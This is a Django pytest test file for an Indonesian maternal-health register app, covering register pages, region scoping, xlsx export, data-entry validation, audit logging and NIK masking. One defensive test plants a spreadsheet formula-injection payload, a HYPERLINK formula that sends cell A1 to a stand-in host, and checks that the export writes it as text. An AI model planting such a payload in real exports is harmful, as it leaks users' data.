"""Pages: registers with filters and xlsx export (Indonesian title block), entry with decimal
commas and Indonesian messages, 404 outside scope, audit of every read and write."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tumbuh.audit.models import AuditEvent
from tumbuh.registry.models import Person
from tumbuh.registry.testing import make_household, make_person
from tumbuh.targets import rules, services
from tumbuh.targets.models import AncVisit, Pregnancy

TODAY = timezone.localdate()


@pytest.fixture
def mother(regions):
    hh = make_household(desa=regions["desa1"], kk_number="6474010101010002")
    return make_person(name="Rahma Ibu", sex="F", birth_date=TODAY.replace(year=TODAY.year - 30),
                       desa=regions["desa1"], posyandu=regions["pos1"], household=hh)


@pytest.fixture
def preg(kec1_user, mother):
    return services.register_pregnancy(kec1_user, mother, {"hpht": TODAY - dt.timedelta(weeks=20), "lila_cm": 23.0})


@pytest.mark.parametrize("group", ["catin", "bumil", "nifas", "remaja", "krs"])
def test_every_register_page_renders_for_the_scope(client, kec1_user, preg, group):
    client.force_login(kec1_user)
    r = client.get(reverse(f"targets:register_{group}"))
    assert r.status_code == 200
    if group == "bumil":
        assert "Rahma Ibu" in r.content.decode()
    assert AuditEvent.objects.filter(action="view_list", object_type=f"targets.{group}").exists()


def test_register_filters_and_outsider_scope(client, kec1_user, kec2_user, preg, regions):
    client.force_login(kec1_user)
    assert "Rahma Ibu" in client.get(reverse("targets:register_bumil"), {"risk": "kek"}).content.decode()
    assert "Rahma Ibu" not in client.get(reverse("targets:register_bumil"), {"risk": "anaemia"}).content.decode()
    client.force_login(kec2_user)
    assert "Rahma Ibu" not in client.get(reverse("targets:register_bumil")).content.decode()
    assert client.get(reverse("targets:pregnancy", args=[preg.pk])).status_code == 404
    r = client.post(reverse("targets:pregnancy", args=[preg.pk]), {"visited_on": TODAY.isoformat(), "place": "posyandu"})
    assert r.status_code == 404 and not AncVisit.objects.exists()


def test_xlsx_export_has_an_indonesian_title_block_and_is_audited(client, kec1_user, preg):
    client.force_login(kec1_user)
    r = client.get(reverse("targets:register_bumil"), {"download": "xlsx"})
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws["A1"].value == "Daftar: Ibu hamil"
    assert ws["A2"].value == "Wilayah" and ws["B2"].value == "BONTANG UTARA"
    values = [c.value for row in ws.iter_rows() for c in row]
    assert "Rahma Ibu" in values and "Nama" in values
    assert AuditEvent.objects.filter(action="export", object_type="targets.bumil").exists()


def test_anc_visit_accepts_decimal_comma_and_dd_mm_yyyy(client, kec1_user, preg):
    client.force_login(kec1_user)
    day = TODAY - dt.timedelta(days=3)
    r = client.post(reverse("targets:pregnancy", args=[preg.pk]), {
        "visited_on": day.strftime("%d-%m-%Y"), "place": "posyandu", "weight_kg": "58,4", "lila_cm": "24,5",
        "hb_gdl": "10,8", "ttd_given": "30"})
    assert r.status_code == 302
    visit = AncVisit.objects.get()
    assert visit.weight_kg == 58.4 and visit.hb_gdl == 10.8 and visit.visited_on == day
    preg.refresh_from_db()
    assert preg.anaemia and preg.ttd_total == 30 and preg.anc_contacts == 1


def test_implausible_visit_is_refused_in_indonesian_and_nothing_saved(client, kec1_user, preg):
    client.force_login(kec1_user)
    r = client.post(reverse("targets:pregnancy", args=[preg.pk]), {
        "visited_on": TODAY.isoformat(), "place": "posyandu", "weight_kg": "58400", "hb_gdl": "108"})
    assert r.status_code == 200
    body = r.content.decode()
    assert "58,4" in body  # "did you mean 58,4 kg?"
    assert "g/dL" in body and "10,8" in body
    assert not AncVisit.objects.exists()


def test_outcome_page_creates_the_baby_and_the_person_page_shows_the_timeline(client, kec1_user, preg, mother):
    client.force_login(kec1_user)
    born = TODAY - dt.timedelta(days=1)
    r = client.post(reverse("targets:pregnancy_outcome", args=[preg.pk]), {
        "outcome": "live_birth", "outcome_on": born.isoformat(), "baby_name": "Bayi Rahma", "baby_sex": "M",
        "baby_weight_g": "2.400", "baby_length_cm": "47,5"})
    # "2.400" is refused (thousands separator is ambiguous): nothing saved.
    assert r.status_code == 200 and not Person.objects.filter(name="Bayi Rahma").exists()
    r = client.post(reverse("targets:pregnancy_outcome", args=[preg.pk]), {
        "outcome": "live_birth", "outcome_on": born.isoformat(), "baby_name": "Bayi Rahma", "baby_sex": "M",
        "baby_weight_g": "2400", "baby_length_cm": "47,5"})
    assert r.status_code == 302
    baby = Person.objects.get(name="Bayi Rahma")
    assert baby.mother == mother and baby.birth_record.bblr and baby.birth_record.short
    page = client.get(reverse("targets:person", args=[mother.pk])).content.decode()
    assert "Bayi Rahma" in page and "BBLR" in page and "Kehamilan" in page


def test_new_woman_then_catin_screening(client, kec1_user, regions):
    client.force_login(kec1_user)
    born = TODAY.replace(year=TODAY.year - 19)
    r = client.post(reverse("targets:new_catin"), {
        "name": "Calon Pengantin", "sex": "F", "birth_date": born.strftime("%d-%m-%Y"), "desa": regions["desa1"].code})
    assert r.status_code == 302, r.content.decode()[:2000]
    person = Person.objects.get(name="Calon Pengantin")
    r = client.post(r["Location"], {"screened_on": TODAY.isoformat(), "weight_kg": "45", "height_cm": "155,5",
                                    "lila_cm": "23,4", "hb_gdl": "11,5"})
    assert r.status_code == 302
    page = client.get(reverse("targets:person", args=[person.pk])).content.decode()
    assert "merah" in page.lower() and "LiLA" in page


def test_household_krs_and_tpk_visit_forms(client, kec1_user, mother, regions):
    from tumbuh.targets.models import KrsSnapshot, TpkTeam, TpkVisit

    team = TpkTeam.objects.create(name="TPK Kuala", desa=regions["desa1"])
    client.force_login(kec1_user)
    url = reverse("targets:household", args=[mother.household_id])
    assert client.get(url).status_code == 200
    r = client.post(url, {"form": "krs", "period": rules.semester_of(TODAY), "water_source": "sungai",
                          "latrine": "own_septic", "couple": "on", "modern_contraception": "0"})
    assert r.status_code == 302
    snap = KrsSnapshot.objects.get()
    assert snap.krs and snap.unmet_need and snap.water_source == "sungai"
    r = client.post(url, {"form": "visit", "team": str(team.pk), "visited_on": TODAY.isoformat(), "counselling": "on"})
    assert r.status_code == 302 and TpkVisit.objects.count() == 1
    r = client.post(url, {"form": "visit", "team": str(team.pk), "visited_on": TODAY.isoformat()})
    assert r.status_code == 200 and "Centang minimal satu kegiatan" in r.content.decode()
    overview = client.get(reverse("targets:overview")).content.decode()
    assert "100,0%" in overview or "100.0%" in overview
    # One KRS family visited: 100% on a single family is marked, never a bare headline.
    kpi = overview[overview.index('id="kpi-krs"'):]
    kpi = kpi[:kpi.index("</div></div>")]
    assert "100,0%" in kpi and "sampel kecil" in kpi
    assert client.get(reverse("targets:teams")).status_code == 200


def test_unknown_group_is_404(client, kec1_user):
    client.force_login(kec1_user)
    assert client.get("/targets/register/x/").status_code == 404
    assert not Pregnancy.objects.exists()


@pytest.mark.parametrize("group", ["catin", "bumil", "nifas", "remaja", "krs"])
def test_every_register_exports(client, kec1_user, preg, group):
    client.force_login(kec1_user)
    r = client.get(reverse(f"targets:register_{group}"), {"download": "1"})
    assert r.status_code == 200 and r.content[:2] == b"PK"


def test_xlsx_register_writes_a_formula_name_as_text(client, kec1_user, preg):
    """The register goes through the one writer (tumbuh.web.xlsx): a typed name is never a formula."""
    import zipfile

    preg.person.name = '=HYPERLINK("http://x/?"&A1,"klik")'
    preg.person.save(update_fields=["name"])
    client.force_login(kec1_user)
    r = client.get(reverse("targets:register_bumil"), {"download": "xlsx"})
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    values = [c.value for row in load_workbook(io.BytesIO(r.content)).active.iter_rows() for c in row]
    assert '=HYPERLINK("http://x/?"&A1,"klik")' in values


def test_the_overview_is_memoized_and_fresh_after_a_write(client, kec1_user, mother, regions, monkeypatch):
    """The overview's counts are reused between writes (analytics.memo) and change on the first
    request after one (the memo's inside-a-transaction rule lifted, as tests/analytics/test_memo.py
    explains)."""
    from tumbuh.analytics import memo

    monkeypatch.setattr(memo, "_in_transaction", lambda: False)
    memo.clear()
    client.force_login(kec1_user)

    def krs_kpi():
        page = client.get(reverse("targets:overview")).content.decode()
        kpi = page[page.index('id="kpi-krs"'):]
        return kpi[:kpi.index("</div></div>")]

    before = krs_kpi()
    assert krs_kpi() == before
    url = reverse("targets:household", args=[mother.household_id])
    assert client.post(url, {"form": "krs", "period": rules.semester_of(TODAY), "water_source": "sungai",
                             "latrine": "own_septic", "couple": "on", "modern_contraception": "0"}).status_code == 302
    after = krs_kpi()
    assert after != before
    memo.clear()


def test_registers_mask_nik_and_kk_and_the_xlsx_masks_them_for_masked_roles(client, kec1_user, preg, mother, regions):
    """The demo walk of stop 25 found whole 16-digit NIKs on the ibu hamil register: lists show the
    last 4 digits only, as every other list does; the xlsx carries them whole for the teams that
    see whole NIKs and masked for province teams (docs/access.md "NIK masking by role")."""
    from tumbuh.accounts.models import Role
    from tumbuh.registry.testing import make_user

    client.force_login(kec1_user)
    page = client.get(reverse("targets:register_bumil")).content.decode()
    assert "Rahma Ibu" in page and mother.nik not in page and f"••••••••••••{mother.nik[-4:]}" in page
    services.save_krs(kec1_user, mother.household, services.open_period(), {"water_source": "pam"})
    krs = client.get(reverse("targets:register_krs")).content.decode()
    assert "6474010101010002" not in krs and "••••••••••••0002" in krs

    def xlsx_values(user):
        client.force_login(user)
        ws = load_workbook(io.BytesIO(client.get(reverse("targets:register_bumil"), {"download": "xlsx"}).content)).active
        return [c.value for row in ws.iter_rows() for c in row]

    assert mother.nik in xlsx_values(kec1_user)
    province = make_user("prov1", Role.PROVINSI, region=regions["prov"])
    values = xlsx_values(province)
    assert "Rahma Ibu" in values and mother.nik not in values and f"••••••••••••{mother.nik[-4:]}" in values
